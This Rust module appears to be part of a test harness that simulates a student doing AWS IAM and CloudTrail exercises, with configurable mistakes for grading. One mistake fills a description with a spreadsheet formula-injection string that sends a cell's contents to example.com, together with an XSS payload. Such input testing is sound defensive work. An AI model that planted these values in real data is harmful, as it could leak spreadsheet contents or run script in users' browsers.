//! The work of one student, task by task, with the mistakes that the student makes.

mod automation;
mod console;
mod documents;

use jiff::{SignedDuration, Timestamp};

use super::ClassError;
use super::hand::{Hand, Key};
use super::mistake::Mistake;
use super::roll::Student;
use crate::clock::Clock;
use crate::sandbox::Sandbox;
use crate::sandbox::dice::Dice;

/// The work of one student under way.
struct Work<'a> {
    student: &'a Student,
    hand: Hand<'a>,
    /// Chooses between ways that are all right.
    dice: Dice,
}

impl Work<'_> {
    /// Tells whether the student makes a mistake.
    fn makes(&self, mistake: Mistake) -> bool {
        self.student.makes(mistake)
    }

    /// Returns a name, or the one that a mistake makes of it.
    fn named(&self, right: &'static str, mistake: Mistake, wrong: &'static str) -> &'static str {
        if self.makes(mistake) { wrong } else { right }
    }

    /// Returns the name of the auditor policy.
    fn policy(&self) -> &'static str {
        self.named("IAM-Auditor-Policy", Mistake::PolicyMisnamed, "IAMAuditorPolicy")
    }

    /// Returns the ARN of the auditor policy.
    fn policy_arn(&self) -> String {
        self.hand.iam_arn(&format!("policy/{}", self.policy()))
    }

    /// Returns the name of the auditors' group.
    fn group(&self) -> &'static str {
        self.named("IAM-Auditor-Group", Mistake::GroupMisspelled, "IAM-Auditors-group")
    }

    /// Returns the name of the auditor role.
    fn role(&self) -> &'static str {
        self.named("IAM-Auditor-role", Mistake::RoleMisnamed, "IAMAuditorRole")
    }

    /// Returns what stands in a description.
    fn description<'d>(&self, usual: &'d str) -> &'d str {
        if self.makes(Mistake::HostileNames) {
            "=HYPERLINK(\"https://example.com/?\"&A1,\"open\") <img src=x onerror=alert(1)>"
        } else {
            usual
        }
    }
}

/// Does the work of a student in the account in front of `sandbox`, whose clock is `clock`. `now` is when the class is
/// looked at.
pub(super) async fn do_all(
    sandbox: &Sandbox,
    clock: &Clock,
    student: &Student,
    now: Timestamp,
) -> Result<(), ClassError> {
    let region = if student.makes(Mistake::OtherRegion) { "eu-west-1" } else { "us-east-1" };
    let hand = Hand::new(sandbox.clone(), clock.clone(), Dice::new(student.style), region);
    let mut work = Work { student, hand, dice: Dice::new(student.style.wrapping_add(1)) };
    if !student.makes(Mistake::NothingDone) {
        let admin = work.open_account().await?;
        work.part_one(&admin).await?;
        work.part_two(&admin).await?;
        work.part_three(&admin).await?;
        if student.makes(Mistake::RootYesterday) {
            let yesterday = now.saturating_sub(SignedDuration::from_hours(20)).unwrap_or(now);
            work.hand.at(yesterday).await;
            work.hand.sign_in_root().await?;
        }
    }
    work.hand.save()
}

impl Work<'_> {
    /// Part 3: who signed in as root, from the event history.
    async fn part_three(&mut self, admin: &Key) -> Result<(), ClassError> {
        if self.makes(Mistake::HistoryNotLookedUp) {
            return Ok(());
        }
        for (attribute, value) in [("Username", "root"), ("EventName", "ConsoleLogin")] {
            let input = serde_json::json!({
                "LookupAttributes": [{"AttributeKey": attribute, "AttributeValue": value}],
                "MaxResults": 50,
            });
            self.hand.call(admin, "cloudtrail", "LookupEvents", input).await?;
        }
        Ok(())
    }
}
